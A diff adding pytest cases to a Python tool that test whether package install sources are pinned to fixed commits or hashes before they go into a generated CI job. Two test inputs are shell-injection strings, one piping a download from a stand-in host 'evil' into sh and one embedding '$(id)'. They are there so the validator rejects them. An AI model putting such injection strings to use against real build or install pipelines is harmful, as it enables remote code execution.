@@ -2,7 +2,8 @@ from __future__ import annotations
 
 import pytest
 
-from uwfgit.sync.review.forges import Forge, compare_link
+from uwfgit.errors import UsageError
+from uwfgit.sync.review.forges import Forge, check_source, compare_link, make_job
 
 
 @pytest.mark.parametrize(
@@ -54,3 +55,31 @@ from uwfgit.sync.review.forges import Forge, compare_link
 )
 def test_compare_links(url: str, forge: Forge | None, link: str | None) -> None:
     assert compare_link(url, base="uwf/main", head="uwf/T", forge=forge) == link
+
+
+@pytest.mark.parametrize(
+    ("source", "is_pinned"),
+    [
+        ("uwfgit", False),
+        ("uwfgit==1.0", False),
+        ("git+https://example.org/uwfgit@main", False),
+        ("git+https://example.org/uwfgit@" + "a" * 40, True),
+        ("uwfgit @ git+https://example.org/uwfgit@" + "a" * 40, True),
+        ("uwfgit[jsonata] @ git+ssh://git@example.org/uwfgit@" + "a" * 40, True),
+        ("uwfgit @ https://example.org/uwfgit-1-py3-none-any.whl", False),
+        ("uwfgit @ https://example.org/uwfgit-1.whl#sha256=" + "b" * 64, True),
+        ("x' && curl evil | sh #", False),
+        ("git+https://example.org/$(id)@" + "a" * 40, False),
+    ],
+)
+def test_a_job_installs_one_thing_that_cannot_change(
+    source: str, *, is_pinned: bool
+) -> None:
+    if not is_pinned:
+        with pytest.raises(UsageError):
+            check_source(source)
+        return
+
+    text = make_job("github", beside_code=True, install=check_source(source)).text
+
+    assert f"pip install '{source}'" in text
